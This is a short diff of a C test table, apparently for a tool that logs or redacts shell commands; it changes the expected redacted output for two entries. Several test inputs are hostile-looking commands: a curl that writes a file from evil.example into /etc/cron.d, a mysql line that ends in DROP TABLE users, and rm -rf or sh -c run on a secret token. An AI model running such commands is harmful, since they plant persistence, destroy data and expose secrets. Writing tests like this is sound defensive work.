@@ -129,8 +129,8 @@ static const struct attempt {
     { "curl :: https://good:x@evil.example/a :: -o :: /etc/cron.d/b", "evil.example", NULL },
     { "mysql :: -e :: SET PASSWORD='x'; DROP TABLE users", "DROP TABLE users", NULL },
     /* tokens that somebody writes themselves */
-    { "rm :: -rf :: \xe2\x80\xb9secret:abcdefgh:4\xe2\x80\xba", "\\342\\200\\271secret:abcdefgh:4\\342\\200\\272", NULL },
-    { "sh :: -c :: \xe2\x80\xb9secret:abcdefgh:4\xe2\x80\xba", "\\342\\200\\271secret:abcdefgh:4\\342\\200\\272", NULL },
+    { "rm :: -rf :: \xe2\x80\xb9secret:abcdefgh:4\xe2\x80\xba", "\\342\\200\\271secret:", NULL },
+    { "sh :: -c :: \xe2\x80\xb9secret:abcdefgh:4\xe2\x80\xba", "\\342\\200\\271secret:", NULL },
 };
 
 static const unsigned char key[AA_SHA256_SIZE] = "a key of thirty-two bytes, about";
